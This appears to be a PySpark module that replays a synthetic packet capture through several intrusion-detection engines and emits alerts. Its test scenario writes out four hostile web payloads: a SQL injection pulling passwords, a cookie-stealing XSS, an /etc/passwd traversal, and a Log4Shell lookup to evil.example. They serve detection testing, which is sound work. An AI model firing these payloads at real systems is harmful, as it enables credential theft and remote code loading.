"""Offline replay: frames -> packets -> interval and packet verdicts -> alerts, in event time."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..config import Config
from ..functions import constants as C
from ..functions.frames import build_tcp, decode
from ..functions.scalars import enrich
from ..operators import alerts as A
from ..operators import bayes, bloom, intervals, kmeans, knn, zscore
from ..operators.ordered import rank
from .workspace import written


def scenario(spark: SparkSession, start_us: int = 1_700_000_000_000_000, listed: str = "10.0.0.66") -> DataFrame:
    """A 30-second capture: browsing, a port scan, a flood, four web payloads, a listed source (13159 frames)."""
    us = 1_000_000
    rows: list[tuple[int, bytes]] = []

    def emit(second: int, i: int, per: int, **frame) -> None:
        rows.append((start_us + second * us + i * us // per, build_tcp(**frame)))

    for s in range(15):
        for i in range(10):
            emit(s, i, 10, sport=40000 + i, dport=(80, 443, 53, 22)[i % 4], flags=0x18, data=b"GET /index.html HTTP/1.1", src="192.168.1.50")
    for s in range(15, 20):
        for i in range(200):
            emit(s, i, 200, sport=50000, dport=1 + i, src="192.168.1.66")
    for s in range(20, 28):
        for i in range(1500):
            emit(s, i, 1500, sport=1024 + i, dport=80, src="192.168.1.99")
    # The four payloads.
    payloads = (b"GET /?id=1 UNION SELECT username,password FROM users -- HTTP/1.1", b"GET /?q=<svg onerror=alert(document.cookie)> HTTP/1.1", b"GET /?file=../../../etc/passwd HTTP/1.1", b'POST /api {"x":"${jndi:ldap://evil.example/a}"} HTTP/1.1')
    for i, data in enumerate(payloads):
        emit(28, i, 4, sport=41000 + i, dport=80, flags=0x18, data=data, src="192.168.1.77")
    for i in range(5):
        emit(29, i, 5, sport=6000 + i, dport=445, src=listed)
    return spark.createDataFrame([(n, t, bytearray(raw[:200]), len(raw)) for n, (t, raw) in enumerate(rows, 1)], "no long, ts_us long, raw binary, orig_len int")


def word_list(words: Column) -> Column:
    quoted = F.transform(words, lambda w: F.when(F.contains(w, F.lit("'")), F.concat(F.lit('"'), w, F.lit('"'))).otherwise(F.concat(F.lit("'"), w, F.lit("'"))))
    return F.concat(F.lit("["), F.array_join(quoted, ", "), F.lit("]"))


def packets_of(frames: DataFrame, bits: list[int], config: Config = Config()) -> DataFrame:
    """Decoded packets with second, t (seconds since the first record), bl_hit, seq_no."""
    timed = intervals.assign_seconds(frames, in_order=True)
    origin = F.broadcast(frames.agg(F.min_by("ts_us", "no").alias("_o")))
    ok = decode(timed).where("status = 'ok'").crossJoin(origin)
    ok = ok.withColumn("t", (F.col("ts_us") - F.col("_o")) / 1e6).withColumn("seq_no", F.col("no")).drop("_o", "raw")
    return ok.withColumn("bl_hit", bloom.check(ok, "src", bits, config.bloom_size, config.bloom_hashes))


def packet_alerts(packets: DataFrame, saturated: float, config: Config = Config()) -> DataFrame:
    hits = packets.where("bl_hit").select("t", "second", "seq_no", F.lit("bloom").alias("engine"), "src", F.concat(F.lit("BLACKLISTED IP DETECTED: "), "src", F.lit(" (Flagged)")).alias("message"), F.lit(1.0 - saturated**config.bloom_hashes).alias("confidence"))
    scored = bayes.score(packets.where("not bl_hit and length(payload) > 0"), "payload", least=config.payload_confidence).where("verdict = 'Malicious'")
    text = F.concat(F.format_string("MALICIOUS PAYLOAD! Confidence: %.2f%% Keywords: ", F.col("confidence") * 100), word_list(F.col("keywords")))
    return hits.unionByName(scored.select("t", "second", "seq_no", F.lit("naive_bayes").alias("engine"), "src", text.alias("message"), "confidence"))


def verdicts(packets: DataFrame, config: Config = Config(), train: DataFrame | None = None) -> dict[str, DataFrame]:
    """Per-second verdicts of the three interval engines; one row a second, or a source and second."""
    total = intervals.per_interval(packets).withColumn("series", F.lit(0))
    sources = intervals.per_source(packets)
    z = zscore.guarded(total, "second", "pps", "series", window=config.zscore_window, threshold=config.zscore_threshold, min_pps=float(config.ddos_min_pps), persist=config.ddos_consecutive_intervals)
    n = kmeans.novelty(total.select("series", "second", "pps", "unique_ports"), "second", "series")
    s = knn.classify(sources, train if train is not None else knn.seed(packets.sparkSession), config.knn_k)
    return {"zscore": z, "kmeans": n, "knn": s, "dominant": intervals.dominant_source(sources, min_share=config.source_attribution_min_share)}


def interval_alerts(v: dict[str, DataFrame]) -> DataFrame:
    z, n, s, top = v["zscore"], v["kmeans"], v["knn"], v["dominant"].select("second", F.col("src").alias("top_src"))
    t = F.col("second").cast("double")
    ddos = z.where("new_threat").join(top, "second").select(t.alias("t"), "second", F.lit(0).cast("long").alias("seq_no"), F.lit("zscore").alias("engine"), F.col("top_src").alias("src"), F.format_string("DDoS DETECTED! Z-Score: %.2f (PPS: %d)", "z", F.col("pps").cast("long")).alias("message"), "confidence")
    # the order of non-empty seconds; one row a second
    order = rank(z.select("second"), "second", "k")
    scans = s.where("label = 'Scan'").join(order, "second")
    before = scans.select("src", (F.col("k") + 1).alias("k"))
    scan = scans.join(before, ["src", "k"], "left_anti").select(t.alias("t"), "second", F.col("first_seq").alias("seq_no"), F.lit("knn").alias("engine"), "src", F.format_string("PORT SCAN DETECTED! (Unique Ports: %d/sec)", "unique_ports").alias("message"), "confidence")
    odd = A.suppressed(n.where("is_threat"), scans, z.where("is_threat"), by="second").join(top, "second")
    odd = odd.select(t.alias("t"), "second", F.lit(0).cast("long").alias("seq_no"), F.lit("kmeans").alias("engine"), F.col("top_src").alias("src"), F.format_string("ANOMALY DETECTED (Cluster %d)! Suspicious activity.", "cluster").alias("message"), "confidence")
    return A.merged(ddos, scan, odd)


def replay(frames: DataFrame, config: Config = Config(), listed: tuple[str, ...] = C.REPLAY_BLACKLIST) -> DataFrame:
    """Runs at once, but for the alerts themselves. frames: no, ts_us, raw -> alerts: t, engine, src, message, confidence, kind, technique_id, tactic, severity, risk_score."""
    spark = frames.sparkSession
    bits = bloom.bits_of(bloom.build(spark.createDataFrame([(x,) for x in listed] or [("",)], "ip string"), "ip", config.bloom_size, config.bloom_hashes))
    # decoded once, and each fold run once, however many branches read them
    packets = written(packets_of(frames, bits, config).select("no", "second", "t", "seq_no", "src", "dport", "payload", "bl_hit"))
    found = {name: written(v) for name, v in verdicts(packets, config).items()}
    alerts = packet_alerts(packets, len(bits) / config.bloom_size, config).unionByName(interval_alerts(found))
    e = enrich(F.col("message"), F.col("confidence"))
    return alerts.select("*", *[e[k].alias(k) for k in ("kind", "technique_id", "tactic", "severity", "risk_score")])


def engine_hits(alerts: DataFrame) -> DataFrame:
    names = alerts.sparkSession.createDataFrame([(n,) for n in ("zscore", "knn", "naive_bayes", "kmeans", "bloom")], "engine string")
    return names.join(alerts.groupBy("engine").count(), "engine", "left").select("engine", F.coalesce("count", F.lit(0)).alias("alerts"))


def timeline(alerts: DataFrame, n: int = 15) -> DataFrame:
    return alerts.orderBy("t", "seq_no").limit(n)
